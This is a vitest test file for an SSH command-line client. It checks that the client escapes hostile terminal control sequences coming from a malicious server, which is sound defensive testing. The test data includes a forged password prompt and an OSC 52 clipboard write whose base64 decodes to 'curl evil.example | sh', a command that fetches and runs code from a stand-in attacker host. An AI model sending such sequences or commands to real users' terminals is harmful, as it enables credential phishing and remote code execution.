/**
 * The CLI prints nothing a hostile server controls raw: banners, DISCONNECT
 * reasons, exit-signal messages, SFTP status messages and remote paths reach
 * stderr with ESC, OSC sequences (window title, OSC 52 clipboard writes), C1
 * controls and bare carriage returns escaped in vis(3) octal, as OpenSSH
 * prints them. The commands run as child processes against a scripted server
 * (exec) and our own server with a hostile SFTP subsystem (get).
 */
import * as ChildProcess from "node:child_process"
import * as Fs from "node:fs"
import * as Os from "node:os"
import * as Path from "node:path"
import * as Effect from "effect/Effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import * as AuthMessages from "../../src/Auth/Messages.ts"
import * as PrivateKey from "../../src/Auth/PrivateKey.ts"
import * as PublicKey from "../../src/Auth/PublicKey.ts"
import * as ChannelMessages from "../../src/Channel/Messages.ts"
import * as Requests from "../../src/Channel/Requests.ts"
import * as Messages from "../../src/Transport/Messages.ts"
import * as SftpMessages from "../../src/Sftp/Messages.ts"
import { Framer } from "../../src/Sftp/Framer.ts"
import * as SshServer from "../../src/Server.ts"
import * as N from "../../src/Wire/MessageNumber.ts"
import { answerOnTerminal, printBanner } from "../../src/cli/Exec.ts"
import { fakeServer, type SshPeer } from "../fuzz/peer.ts"
import { runScoped } from "../helpers.ts"

const hostKey = PrivateKey.generate("ssh-ed25519")
const userKey = PrivateKey.generate("ssh-ed25519")
const fingerprint = PublicKey.fingerprint(hostKey.publicKey)

/** What a hostile server sends: clear screen, cursor home, window title, OSC 52 clipboard write, C1 CSI, a forged prompt. */
const CLEAR = "\x1b[2J\x1b[H"
const TITLE = "\x1b]0;pwned\x07"
const CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
const C1 = "\u009b31m"
const FAKE_PROMPT = "\rroot@localhost's password: "
const HOSTILE = `${CLEAR}${TITLE}${CLIPBOARD}${C1}${FAKE_PROMPT}`
/** The same, as the CLI must print it (one line: no raw CR). */
const ESCAPED = "\\033[2J\\033[H\\033]0;pwned\\007\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007\\302\\23331m\\015root@localhost's password: "

let work = ""
let keyFile = ""

beforeAll(() => {
  work = Fs.mkdtempSync(Path.join(Os.tmpdir(), "effect-ssh-injection-"))
  keyFile = Path.join(work, "id")
  Fs.writeFileSync(keyFile, PrivateKey.toOpenSsh(userKey), { mode: 0o600 })
})

afterAll(() => {
  if (work) Fs.rmSync(work, { recursive: true, force: true })
})

const cli = (args: ReadonlyArray<string>) =>
  new Promise<{ readonly code: number | null; readonly stderr: string; readonly stdout: string }>((resolve) => {
    const main = new URL("../../src/cli/main.ts", import.meta.url).pathname
    const child = ChildProcess.spawn(process.execPath, [main, ...args], { stdio: ["ignore", "pipe", "pipe"], env: { ...process.env, HOME: work } })
    let stderr = ""
    let stdout = ""
    child.stderr.on("data", (d) => stderr += d)
    child.stdout.on("data", (d) => stdout += d)
    const timer = setTimeout(() => child.kill("SIGKILL"), 30_000)
    child.on("close", (code) => {
      clearTimeout(timer)
      resolve({ code, stderr, stdout })
    })
  })

/** No raw control character but LF in what the CLI printed (ESC, BEL, CR, C1 included). */
const expectNoRawControls = (text: string) => {
  expect(text).not.toContain("\x1b")
  expect(text).not.toContain("\x07")
  expect(text).not.toContain("\r")
  expect(text).not.toMatch(/[\u0080-\u009f]/)
  expect(text.replace(/\n/g, "")).not.toMatch(/[\u0000-\u001f\u007f]/)
}

/** Handshake, service, one USERAUTH_REQUEST answered with the banner and success. */
const loginWithBanner = async (peer: SshPeer, banner: string) => {
  await peer.serverHandshake()
  await peer.expect(N.SERVICE_REQUEST)
  peer.send(Messages.encodeServiceAccept("ssh-userauth"))
  await peer.expect(N.USERAUTH_REQUEST)
  peer.send(AuthMessages.encodeBanner(banner))
  peer.send(AuthMessages.encodeSuccess())
}

const execArgs = (port: number, command: string) =>
  ["exec", "-p", String(port), "-i", keyFile, "--host-key-fingerprint", fingerprint, "fuzz@127.0.0.1", "--", command]

describe("effect-ssh exec ← a hostile server", () => {
  it("escapes the banner (keeping its line breaks) and the DISCONNECT reason", async () => {
    const server = await fakeServer(async (peer) => {
      await loginWithBanner(peer, `Welcome!\r\n${HOSTILE}\r\nsecond line\n`)
      await peer.expect(N.CHANNEL_OPEN)
      peer.send(Messages.encodeDisconnect({ code: N.DisconnectReason.PROTOCOL_ERROR, description: `bye ${HOSTILE}` }))
    }, { hostKey })
    try {
      const { code, stderr } = await cli(execArgs(server.port, "true"))
      expect(code).toBe(255)
      // the banner keeps its CR LF and LF line ends; everything else is escaped
      expect(stderr).toContain(`Welcome!\r\n${ESCAPED}\r\nsecond line\n`)
      expect(stderr).toContain(`bye ${ESCAPED}`)
      // besides the banner's own CR LF, no control character reaches the terminal
      expectNoRawControls(stderr.replace(/\r\n/g, "\n"))
    } finally {
      await server.close()
    }
  }, 60_000)

  it("escapes an exit-signal's message and leaves the remote output streams raw", async () => {
    const server = await fakeServer(async (peer) => {
      await loginWithBanner(peer, "hi\n")
      const open = ChannelMessages.decode(await peer.expect(N.CHANNEL_OPEN)) as Extract<ChannelMessages.ConnectionMessage, { _tag: "ChannelOpen" }>
      peer.send(ChannelMessages.channelOpenConfirmation(open.sender, 3, 1024 * 1024, 32 * 1024))
      await peer.expect(N.CHANNEL_REQUEST)
      peer.send(ChannelMessages.channelSuccess(open.sender))
      // the remote command's own output is the user's business: it stays byte for byte
      peer.send(ChannelMessages.channelData(open.sender, new TextEncoder().encode("\x1b[1mbold\x1b[0m\n")))
      peer.send(ChannelMessages.channelRequest(open.sender, "exit-signal", false, Requests.encodeExitSignal({ signal: "TERM", coreDumped: false, message: `killed ${HOSTILE}` })))
      peer.send(ChannelMessages.channelEof(open.sender))
      peer.send(ChannelMessages.channelClose(open.sender))
      for (;;) if ((await peer.receive())[0] === N.CHANNEL_CLOSE) break
    }, { hostKey })
    try {
      const { code, stderr, stdout } = await cli(execArgs(server.port, "run"))
      expect(stdout).toBe("\x1b[1mbold\x1b[0m\n")
      expect(code).toBe(128 + 15)
      expect(stderr).toContain(`killed by signal TERM (killed ${ESCAPED})`)
      expectNoRawControls(stderr)
    } finally {
      await server.close()
    }
  }, 60_000)
})

describe("effect-ssh get ← a hostile SFTP server", () => {
  it("escapes the status message and the remote path in the error line", async () => {
    // an SFTP subsystem that answers INIT, then refuses everything with a hostile message
    const hostileSftp: SshServer.ServeOptions["sftp"] = (session) =>
      Effect.gen(function*() {
        const framer = new Framer()
        const reply = (packet: SftpMessages.SftpPacket) => session.write(SftpMessages.encode(packet))
        yield* session.consumeStdin((chunks) =>
          Effect.forEach(chunks.flatMap((c) => framer.push(Uint8Array.from(c))), (body) => {
            const packet = SftpMessages.decode(body)
            if (packet._tag === "Init") return reply({ _tag: "Version", version: 3, extensions: [] })
            const id = "id" in packet ? packet.id : 0
            return reply({ _tag: "Status", id, code: 3, message: `denied ${HOSTILE}`, language: "" })
          }, { discard: true }))
        return 0
      })
    const result = await runScoped(Effect.gen(function*() {
      const server = yield* SshServer.serve({
        port: 0,
        hostKeys: [hostKey],
        auth: { publicKey: () => Effect.succeed(true), banner: `MOTD ${CLEAR}` },
        sftp: hostileSftp
      })
      return yield* Effect.promise(() =>
        cli(["get", "-p", String(server.address.port), "-i", keyFile, "--host-key-fingerprint", fingerprint, `fuzz@127.0.0.1:/x${TITLE}y`, Path.join(work, "out")])
      )
    }))
    expect(result.code).toBe(1)
    expect(result.stderr).toContain(`denied ${ESCAPED}`)
    expect(result.stderr).toContain("/x\\033]0;pwned\\007y")
    expect(result.stderr).toContain("MOTD \\033[2J\\033[H")
    expectNoRawControls(result.stderr)
  }, 60_000)
})

describe("keyboard-interactive and banners on the terminal", () => {
  it("prints the round's name and instruction, and asks each prompt, all escaped", async () => {
    const written: Array<string> = []
    const asked: Array<string> = []
    const answers = await Effect.runPromise(answerOnTerminal(
      (question) => Effect.sync(() => {
        asked.push(question)
        return "answer"
      }),
      (text) => void written.push(text)
    )({
      name: `Duo ${TITLE}`,
      instruction: `Choose:\n 1. Push\n${CLEAR}`,
      prompts: [{ prompt: `Passcode${FAKE_PROMPT}`, echo: false }, { prompt: "Again: ", echo: true }]
    }))
    expect(answers).toEqual(["answer", "answer"])
    expect(written).toEqual(["Duo \\033]0;pwned\\007\n", "Choose:\n 1. Push\n\\033[2J\\033[H\n"])
    expect(asked).toEqual(["Passcode\\015root@localhost's password: ", "Again: "])
  })

  it("prints a banner with its line breaks and without its escape sequences", async () => {
    const written: Array<string> = []
    await Effect.runPromise(printBanner(`Authorized use only.\r\n${CLIPBOARD}\n`, (t) => void written.push(t)))
    expect(written).toEqual(["Authorized use only.\r\n\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007\n"])
  })
})
